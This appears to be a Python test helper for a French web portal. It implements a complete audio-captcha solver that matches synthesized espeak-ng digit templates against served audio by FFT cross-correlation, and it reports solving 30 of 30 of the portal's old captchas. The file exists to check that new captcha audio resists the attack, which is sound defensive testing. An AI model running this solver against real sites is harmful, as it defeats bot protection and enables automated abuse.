"""The attack of issue 18 item 2, written down: read an audio captcha by template matching.

The attacker builds a bank himself — each French digit spoken by espeak-ng (the voice the
portal is known to use) with a few of its variants, speeds and pitches, stretched by the
speed steps of the `captcha` package (0.9–1.2) — then slides every template over the
served audio (normalised cross-correlation, through the FFT) and reads the 5 best
non-overlapping matches in time order. Against the 30 voice files the portal used to ship,
this is the attack that solved 30/30; the portal's audio must defeat it.

numpy only (a test dependency); espeak-ng and sox are Debian packages the portal needs anyway.
"""

from __future__ import annotations

import io
import subprocess
import tempfile
import wave
from collections.abc import Iterable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import numpy as np

RATE = 8000  # the telephone rate of the old captcha
WORDS = ("zéro", "un", "deux", "trois", "quatre", "cinq", "six", "sept", "huit", "neuf")
# (voice, words per minute, pitch): the old script's three variants and espeak-ng's default
# voice at a few speeds — what anyone can build without seeing a single served file.
VARIANTS: tuple[tuple[str, int, int], ...] = (
    ("fr", 140, 50),
    ("fr+f3", 150, 60),
    ("fr+m3", 160, 40),
    ("fr", 120, 50),
    ("fr", 175, 50),
)
STRETCHES = (0.9, 1.05, 1.2)
SPEED_STEPS = tuple(s / 100 for s in range(90, 121, 1))  # captcha's change_speed steps


def decode(wav: bytes) -> np.ndarray:
    """A WAV (8- or 16-bit PCM, mono) as floats at RATE, peak 1."""
    with wave.open(io.BytesIO(wav)) as reader:
        width, rate = reader.getsampwidth(), reader.getframerate()
        frames = reader.readframes(reader.getnframes())
        channels = reader.getnchannels()
    if width == 1:
        samples = np.frombuffer(frames, dtype=np.uint8).astype(np.float64) - 128.0
    else:
        samples = np.frombuffer(frames, dtype="<i2").astype(np.float64)
    samples = samples.reshape(-1, channels).mean(axis=1)
    samples = resample(samples, RATE / rate)
    peak = float(np.max(np.abs(samples))) or 1.0
    return samples / peak


def resample(samples: np.ndarray, factor: float) -> np.ndarray:
    """Linear interpolation to `factor` × the length (as change_speed stretches)."""
    if factor == 1.0 or len(samples) < 2:
        return samples
    length = max(2, round(len(samples) * factor))
    return np.interp(np.linspace(0, len(samples) - 1, length), np.arange(len(samples)), samples)


def speak(word: str, voice: str, speed: int, pitch: int) -> np.ndarray:
    """espeak-ng's rendering of one word, trimmed of its silences, at RATE."""
    done = subprocess.run(
        ["espeak-ng", "-v", voice, "-s", str(speed), "-p", str(pitch), "--stdout", word],
        capture_output=True,
        check=True,
    )
    samples = decode(fix_stream_header(done.stdout))
    loud = np.flatnonzero(np.abs(samples) > 0.02)
    return samples[loud[0] : loud[-1] + 1] if len(loud) else samples


def fix_stream_header(wav: bytes) -> bytes:
    """espeak-ng --stdout writes a streaming header (sizes 0x7fffffff): set the real ones."""
    data = bytearray(wav)
    data[4:8] = (len(data) - 8).to_bytes(4, "little")
    data[40:44] = (len(data) - 44).to_bytes(4, "little")
    return bytes(data)


@dataclass
class Template:
    digit: str
    samples: np.ndarray


def bank(
    variants: Iterable[tuple[str, int, int]] = VARIANTS, stretches: Sequence[float] = STRETCHES
) -> list[Template]:
    jobs = [(digit, word, *variant) for digit, word in enumerate(WORDS) for variant in variants]
    # espeak-ng runs side by side: the bank's wall time is a few processes, not fifty.
    with ThreadPoolExecutor(4) as pool:
        spoken = list(pool.map(lambda job: speak(*job[1:]), jobs))
    return [
        Template(str(job[0]), resample(clean, s))
        for job, clean in zip(jobs, spoken, strict=True)
        for s in stretches
    ]


def fast_size(n: int) -> int:
    """The least 2^a·3^b·5^c ≥ n: an FFT size pocketfft handles as fast as a power of two,
    up to twice smaller than the next power of two (half the work on the portal's audio)."""
    best = 1 << max(0, (n - 1).bit_length())
    fives = 1
    while fives < best:
        threes = fives
        while threes < best:
            size = threes << max(0, (n - 1) // threes).bit_length()  # × the least 2^a ≥ n
            best = min(best, size)
            threes *= 3
        fives *= 5
    return best


class Solver:
    """Templates prepared once; `solve(wav)` reads the digits of one challenge, `solve_many`
    several (each template's spectrum computed once for them all).

    float32 throughout the correlation: half the memory traffic of float64, and its error
    (≈ 1e-6 of a score in [-1, 1]) far below the gap between a match and the next best.
    The running energies are summed in float64 (a float32 sum would drift), then rounded."""

    CHUNK = 8  # templates transformed at once

    def __init__(self, templates: list[Template], digits: int = 5) -> None:
        self.templates = templates
        self.digits = digits
        self.lengths = np.array([len(t.samples) for t in templates])
        self.norms = np.array([np.linalg.norm(t.samples) for t in templates])

    def solve(self, wav: bytes) -> str:
        return self.solve_many([wav])[0]

    def solve_many(self, wavs: Sequence[bytes]) -> list[str]:
        signals = [decode(wav) for wav in wavs]
        longest = int(self.lengths.max())
        size = fast_size(max(map(len, signals)) + longest)
        spectra = [np.fft.rfft(signal.astype(np.float32), size) for signal in signals]
        energies = [
            np.concatenate(([0.0], np.cumsum(signal**2))).astype(np.float32) for signal in signals
        ]
        best = [np.zeros(len(signal), dtype=np.float32) for signal in signals]
        who = [np.full(len(signal), -1, dtype=np.int32) for signal in signals]
        for first in range(0, len(self.templates), self.CHUNK):
            rows = range(first, min(first + self.CHUNK, len(self.templates)))
            padded = np.zeros((len(rows), size), dtype=np.float32)
            for row, index in enumerate(rows):
                # divided by its norm here: the scores come out of the FFT half normalised
                padded[row, : self.lengths[index]] = (
                    self.templates[index].samples / self.norms[index]
                )
            # correlation at offset t: irfft(S · conj(T))[t], the same for every template
            kernels = np.conj(np.fft.rfft(padded, axis=1))
            for k in range(len(signals)):
                scores = np.fft.irfft(spectra[k][None, :] * kernels, size, axis=1)
                for row, index in enumerate(rows):
                    self._match(index, scores[row], energies[k], best[k], who[k])
        return [self._read(b, w) for b, w in zip(best, who, strict=True)]

    def _match(self, index: int, score: np.ndarray, energy: np.ndarray, best: np.ndarray,
               who: np.ndarray) -> None:  # fmt: skip
        """Normalised cross-correlation of one template at every offset where it lies within
        the signal; where it beats the best so far, it becomes the best. (Contiguous slices
        row by row: a gather of the energies and an argmax across a chunk cost more than
        the FFT.)"""
        n, length = int(self.lengths[index]), len(best)
        if n >= length:
            return
        m = length - n + 1  # the offsets t with t + n ≤ length
        local = np.subtract(energy[n : n + m], energy[:m])
        # a local norm ≤ 1e-3·√n scores nothing; the test of each offset only where some
        # offset is that quiet (one min instead of a mask, on audio that is never silent)
        quiet = float(local.min()) <= 1e-6 * n
        if quiet:
            silent = local <= 1e-6 * n
            np.maximum(local, 1e-12, out=local)
        np.sqrt(local, out=local)
        part = score[:m]
        part /= local
        if quiet:
            part[silent] = 0.0
        better = part > best[:m]
        np.copyto(best[:m], part, where=better)
        np.copyto(who[:m], index, where=better)

    def _read(self, best: np.ndarray, who: np.ndarray) -> str:
        """The `digits` best non-overlapping matches, in time order."""
        picks: list[tuple[int, str]] = []
        taken = np.zeros(len(best), dtype=bool)
        for position in np.argsort(best)[::-1]:
            if len(picks) == self.digits or best[position] <= 0:
                break
            n = self.lengths[who[position]] if who[position] >= 0 else 0
            if n == 0 or taken[position : position + n].any():
                continue
            taken[position : position + n] = True
            picks.append((int(position), self.templates[who[position]].digit))
        return "".join(digit for _, digit in sorted(picks))


def file_bank(voicedir: Path, speeds: Sequence[float] = SPEED_STEPS) -> list[Template]:
    """Templates from voice files (8 kHz 8-bit, one folder per digit) stretched by the
    captcha package's own change_speed: the issue's attacker against the shipped files."""
    from captcha.audio import change_speed, patch_wave_header

    out = []
    for folder in sorted(p for p in voicedir.iterdir() if p.is_dir()):
        for path in sorted(folder.glob("*.wav")):
            with wave.open(str(path)) as reader:
                body = bytearray(reader.readframes(reader.getnframes()))
            if not out:  # the package's own loop, once: the copy below gives its bytes
                for speed in speeds:
                    assert change_speed_like(body, speed) == change_speed(body, speed), speed
            for speed in speeds:
                wav = bytes(patch_wave_header(bytearray(change_speed_like(body, speed))))
                out.append(Template(folder.name, decode(wav)))
    return out


def change_speed_like(body: bytes, speed: float) -> bytes:
    """captcha.audio.change_speed in numpy (its loop over the samples in Python cost more
    than the rest of the bank): sample j fills [int(s_j), int(s_{j+1})) of a body
    int(len × speed) long, s_j being j additions of `speed` — summed in the same order by
    np.cumsum, so the same floats and the same bytes."""
    if speed == 1:
        return bytes(body)
    steps = np.concatenate(([0.0], np.cumsum(np.full(len(body), speed))))
    counts = np.diff(steps.astype(np.int64))
    stretched = np.repeat(np.frombuffer(bytes(body), dtype=np.uint8), counts)
    length = int(len(body) * speed)
    out = np.zeros(length, dtype=np.uint8)
    out[: min(length, len(stretched))] = stretched[:length]
    return out.tobytes()


def old_voices(directory: Path) -> Path:
    """The voice files the portal used to ship (scripts/make_captcha_voices.sh's recipe:
    three espeak-ng variants a digit, trimmed, 8 kHz 8-bit), rebuilt to replay the old
    captcha — what the attacker matched against."""
    names = [("fr", 140, 50), ("fr+f3", 150, 60), ("fr+m3", 160, 40)]
    with tempfile.TemporaryDirectory() as work:

        def make(digit: int, word: str, n: int, voice: str, speed: int, pitch: int) -> None:
            raw = Path(work) / f"{digit}-{n}.wav"
            target = directory / str(digit) / f"{n}.wav"
            speech = ["espeak-ng", "-v", voice, "-s", str(speed), "-p", str(pitch)]
            subprocess.run([*speech, "-w", str(raw), word], check=True)
            # mono 8 kHz 8-bit, silences trimmed, peak −1 dBFS: AudioCaptcha's format
            trim = ["silence", "1", "0.01", "0.1%", "reverse"]
            fmt = ["-c", "1", "-r", "8000", "-b", "8", "-e", "unsigned-integer"]
            effects = [*trim, *trim, "gain", "-n", "-1"]
            subprocess.run(["sox", "-R", "-V1", str(raw), *fmt, str(target), *effects], check=True)

        for digit in range(len(WORDS)):
            (directory / str(digit)).mkdir(parents=True, exist_ok=True)
        jobs = [
            (digit, word, n, *name)
            for digit, word in enumerate(WORDS)
            for n, name in enumerate(names, 1)
        ]
        # the 30 files made side by side (processes: the threads only wait for them)
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(lambda job: make(*job), jobs))
    return directory
